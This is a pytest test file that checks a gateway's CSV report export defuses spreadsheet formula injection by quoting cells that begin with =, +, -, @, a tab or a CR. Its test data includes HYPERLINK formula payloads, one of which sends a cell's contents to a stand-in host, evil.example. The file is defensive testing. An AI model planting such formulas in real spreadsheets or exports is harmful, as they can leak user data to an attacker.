"""CSV exports never hand a spreadsheet a formula: a text cell starting with =, +, -, @, a tab
or a CR gets a leading single quote (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from gateway.reports import to_csv
from tests.conftest import Harness

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_in_a_text_cell_is_neutralized(value: str):
    rows = list(
        csv.DictReader(io.StringIO(to_csv([{"key": value, "volume": -3, "p": 1.5}]), newline=""))
    )
    assert rows == [{"key": "'" + value, "volume": "-3", "p": "1.5"}]


def test_ordinary_cells_are_unchanged():
    text = to_csv([{"key": "email", "volume": 4, "csat_score": None, "note": "a=b, -ish"}])
    assert text == 'key,volume,csat_score,note\nemail,4,,"a=b, -ish"\n'


async def test_the_live_agents_export_neutralizes_an_agent_name(gateway: Harness):
    name = '=HYPERLINK("http://evil.example","Open")'
    await gateway.agent_online("mallory@example.com", name=name)
    resp = await gateway.client.get(
        "/api/v1/reports/live?format=csv&table=agents", headers=gateway.auth(gateway.admin_token)
    )
    assert resp.status == 200
    table = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
    names = [cell for row in table for cell in row.values() if "HYPERLINK" in cell]
    assert names == ["'" + name], table
